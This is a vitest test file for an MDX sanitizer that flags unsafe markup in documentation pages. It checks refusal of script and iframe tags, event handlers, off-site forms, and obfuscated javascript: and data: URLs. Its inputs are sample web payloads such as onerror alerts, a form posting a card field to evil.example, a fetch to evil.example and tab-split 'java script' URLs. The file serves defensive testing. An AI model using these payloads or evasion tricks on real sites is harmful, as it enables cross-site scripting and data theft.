/** MDX that would run code or send readers off the site is refused with its line (lib/mdx/unsafe-markup.ts). */
import { describe, expect, it } from 'vitest';
import { isScriptingUrl, unsafeMarkupProblems } from '@/lib/mdx/unsafe-markup';

const lines = (mdx: string) => unsafeMarkupProblems(mdx).map((problem) => `${problem.line}: ${problem.message}`);

describe('unsafe markup in MDX', () => {
  it('refuses raw script, iframe, object, embed, base and meta, each on its line', () => {
    const mdx = ['# Page', '', '<script>{"window.x=1"}</script>', '', '<iframe src="https://evil.example/frame" />', '', '<object data="/x.swf" />', '', '<embed src="/x.swf" />', '', '<base href="https://evil.example/" />', '', '<meta httpEquiv="refresh" content="0;url=https://evil.example/" />', ''].join('\n');
    const found = lines(mdx);
    for (const [line, tag] of [[3, 'script'], [5, 'iframe'], [7, 'object'], [9, 'embed'], [11, 'base'], [13, 'meta']] as const) {
      expect(found, tag).toContainEqual(expect.stringMatching(new RegExp(`^${line}: raw <${tag}> cannot be written in a page`)));
    }
  });

  it('refuses event-handler attributes on any element, and forms that post off the site', () => {
    expect(lines('Text <img src="/favicon.svg" alt="" onerror="alert(1)" /> here.\n')).toEqual(['1: <img> has the event handler onerror, and a page cannot carry script: use a component that handles the event']);
    expect(lines('<div onClick={"x"}>a</div>\n')).toEqual([expect.stringMatching(/^1: <div> has the event handler onClick/)]);
    expect(lines('<form action="https://evil.example/collect"><input name="card" /></form>\n')).toEqual([expect.stringMatching(/^1: <form> action="https:\/\/evil.example\/collect" posts off the site/)]);
    expect(lines('<form action="//evil.example/collect" />\n')).toHaveLength(1);
    expect(lines('<form><button formAction="https://evil.example/">Go</button></form>\n')).toEqual([expect.stringMatching(/^1: <button> formAction=.* posts off the site/)]);
    expect(lines('<form action="/search/"><input name="q" /></form>\n')).toEqual([]);
  });

  it('refuses javascript:, vbscript: and data: URLs in links, images, definitions and attributes, however they are spaced or cased', () => {
    const mdx = ['[x](javascript:alert(1))', '', '![y](data:image/svg+xml;base64,PHN2Zz4=)', '', '[ref]: JavaScript:alert(1)', '', '<a href=" java&#x09;script:alert(1)">z</a>', '', '<a href="vbscript:x">v</a>', '', '<img srcSet="/a.png 1x, data:image/png;base64,AA 2x" alt="" />', ''].join('\n');
    expect(lines(mdx).map((line) => line.split(':')[0])).toEqual(['1', '3', '5', '7', '9', '11']);
    expect(isScriptingUrl(' \tjava\nscript:alert(1)')).toBe(true);
    expect(isScriptingUrl('/javascript:/page/')).toBe(false);
    expect(lines('[ok](/webhooks/configuration/) and [ext](https://developer.mozilla.org/) and ![img](/favicon.svg)\n')).toEqual([]);
  });

  it('refuses MDX code: import, export and expressions that are more than a literal', () => {
    const mdx = ["import x from 'y'", '', 'export const a = 1', '', "Text {fetch('https://evil.example/')} here.", '', "{'sk_li' + 've_x'}", '', '<WebhookRetryWindow plusDays={globalThis.x} />', '', '<Callout {...props}>x</Callout>', ''].join('\n');
    expect(lines(mdx).map((line) => line.split(':')[0])).toEqual(['1', '3', '5', '7', '9', '11']);
  });

  it('lets literal values and comments through, as the docs use them', () => {
    expect(lines('<WebhookRetryWindow plusDays={1} />\n\n{/* a note for authors */}\n\n<X list={["a", 1, -2, { b: `c` }]} />\n\nA `<script>` in inline code, and:\n\n```html\n<script src="/x.js"></script>\n```\n')).toEqual([]);
  });
});
